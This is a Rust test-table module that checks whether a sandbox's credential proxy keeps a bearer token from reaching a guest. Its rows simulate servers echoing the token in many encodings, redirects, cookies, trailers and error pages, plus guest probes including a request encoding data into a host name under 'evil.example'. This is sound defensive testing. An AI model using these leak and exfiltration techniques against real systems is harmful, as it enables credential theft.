//! X: ways in which a token might come to the guest. The server gives it back; the guest looks wherever it can.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use hotcell_protocol::Code;
use serde_json::Value;
use serde_json::json;

use super::Ask;
use super::Does;
use super::Ends;
use super::Row;
use super::Script;
use super::Step;
use super::guests::sending;
use crate::Raw;

const LEAK: Ends = Ends::Denied(Code::LeakStopped);

const fn row(id: &'static str, name: &'static str, does: Does, ends: Ends) -> Row {
    Row { id, name, does, ends, most_ms: 800, most_mib: 24 }
}

const fn echo(id: &'static str, name: &'static str, script: fn(&str) -> Script) -> Row {
    row(id, name, Does::Server(script), LEAK)
}

pub(super) const ROWS: &[Row] = &[
    echo("X1a", "echo-plain", |token| ok(format!("{{\"authorization\": \"Bearer {token}\"}}"))),
    echo("X1b", "echo-base64", |token| ok(STANDARD.encode(format!("Bearer {token}")))),
    echo("X1c", "echo-base64-one-byte-on", |token| ok(STANDARD.encode(format!("xBearer {token}")))),
    echo("X1d", "echo-base64-two-bytes-on", |token| ok(STANDARD.encode(format!("xxBearer {token} and more")))),
    echo("X1e", "echo-hexadecimal", |token| ok(each(token, |byte| format!("{byte:02X}")))),
    echo("X1f", "echo-percent-encoded", |token| ok(each(token, |byte| format!("%{byte:02x}")))),
    echo("X1g", "echo-json-escapes", |token| ok(each(token, |byte| format!("\\u{byte:04x}")))),
    echo("X1h", "echo-utf-16", |token| ok(token.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())),
    echo("X1i", "echo-reversed", |token| ok(token.chars().rev().collect::<String>())),
    echo("X1j", "echo-html-entities", |token| ok(each(token, |byte| format!("&#{byte};")))),
    echo("X1k", "echo-a-character-a-line", |token| ok(each(token, |byte| format!("{}\r\n", char::from(byte))))),
    echo("X1l", "echo-gzip", |token| {
        vec![Step::Send(Raw::answer("200 OK", &["Content-Encoding: gzip"], super::upstreams::stored_gzip(token)))]
    }),
    echo("X10a", "a-new-token", |_| ok(r#"{"access_token": "gho_aNewOneThatIsInNoStore0123456789"}"#)),
    echo("X10b", "a-new-token-as-a-form", |_| ok("access_token=gho_aNewOneThatIsInNoStore0123456789&scope=repo")),
    echo("X10c", "an-address-that-is-signed", |_| {
        ok(r#"{"signedURL": "/object/sign/a/b?token=eyJhbGciOiJIUzI1NiJ9.e30"}"#)
    }),
    row("X2", "asks-for-a-range", Does::Asks(ranges), Ends::Denied(Code::HeaderForbidden)),
    echo("X3", "token-in-a-redirect", |token| answer("302 Found", &[&format!("Location: /x?t={token}")], "")),
    echo("X4", "token-in-a-cookie", |token| answer("200 OK", &[&format!("Set-Cookie: session={token}")], "")),
    echo("X5", "error-page-prints-the-header", |token| answer("401 Unauthorized", &[], &format!("bad token: {token}"))),
    row("X6", "walks-its-own-memory", Does::Text(memory_after_a_request, "{}"), Ends::Returns(is_a_memory)),
    row("X7", "asks-which-services-there-are", Does::Asks(oracles), Ends::Denied(Code::OriginNotGranted)),
    row("X8", "data-in-a-host-name", Does::Asks(labels), Ends::Denied(Code::OriginNotGranted)),
    // The status line's own words: no part of them reaches the guest, so there is nothing to withhold.
    row(
        "X9a",
        "token-in-the-reason-phrase",
        Does::Server(|token| answer(&format!("200 {token}"), &[], "")),
        Ends::Answers(200),
    ),
    row("X9b", "token-where-the-answer-should-be", Does::Server(broken), Ends::Denied(Code::UpstreamUnreachable)),
    row("X9c", "token-in-a-trailer", Does::Server(trailer), Ends::Answers(200)),
    echo("X9d", "token-in-a-header-that-no-tool-sees", |token| {
        answer("200 OK", &[&format!("X-Debug: {token}")], "fine")
    }),
];

fn ok(body: impl AsRef<[u8]>) -> Script {
    vec![Step::Send(Raw::ok(body))]
}

fn answer(status: &str, headers: &[&str], body: &str) -> Script {
    vec![Step::Send(Raw::answer(status, headers, body))]
}

fn each(token: &str, written: impl Fn(u8) -> String) -> String {
    token.bytes().map(written).collect()
}

fn broken(token: &str) -> Script {
    vec![Step::Send(format!("HTTP/1.1 {token}\r\n\r\n").into_bytes()), Step::Close]
}

fn trailer(token: &str) -> Script {
    let text = format!(
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n1\r\nx\r\n0\r\nX-T: {token}\r\n\r\n"
    );
    vec![Step::Send(text.into_bytes())]
}

fn ranges(origin: &str) -> Vec<Ask> {
    let range = ("Range".to_owned(), "bytes=0-7".to_owned());
    vec![Ask { url: format!("{origin}/api/x"), headers: vec![range], ..Ask::default() }]
}

fn oracles(_: &str) -> Vec<Ask> {
    ["https://api.github.com/user", "https://no.such.service.example/", "https://localhost.example/"]
        .into_iter()
        .map(|url| Ask { url: url.to_owned(), ..Ask::default() })
        .collect()
}

fn labels(_: &str) -> Vec<Ask> {
    let label = "0123456789abcdef".repeat(3);
    vec![Ask { url: format!("https://{label}.evil.example/"), ..Ask::default() }]
}

/// Sends a request, and returns all of its memory: what the host wrote there for it, wherever that was.
fn memory_after_a_request(origin: &str) -> Vec<u8> {
    sending(
        &format!("{origin}/api/x"),
        r#"(func (export "run") (result i32)
            (call $send (i32.const 0) (i32.const 64) (global.get $length)
                (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 512))
            (i32.store (i32.const 0) (i32.const 8)) (i32.store (i32.const 4) (i32.const 262136)) (i32.const 0))"#,
        r#"(func (export "run") (result (list u8)) (canon lift (core func $i "run") (memory (core memory $mem "memory"))))"#,
    )
}

/// 262,136 bytes as base64 that hold the answer `fine`. The sweep looks for the token in them.
fn is_a_memory(value: &Value) -> bool {
    let memory = value.as_str().and_then(|text| STANDARD.decode(text).ok()).unwrap_or_default();
    memory.len() == 262_136 && memory.windows(4).any(|window| window == b"fine") && json!(memory.len()) != json!(0)
}
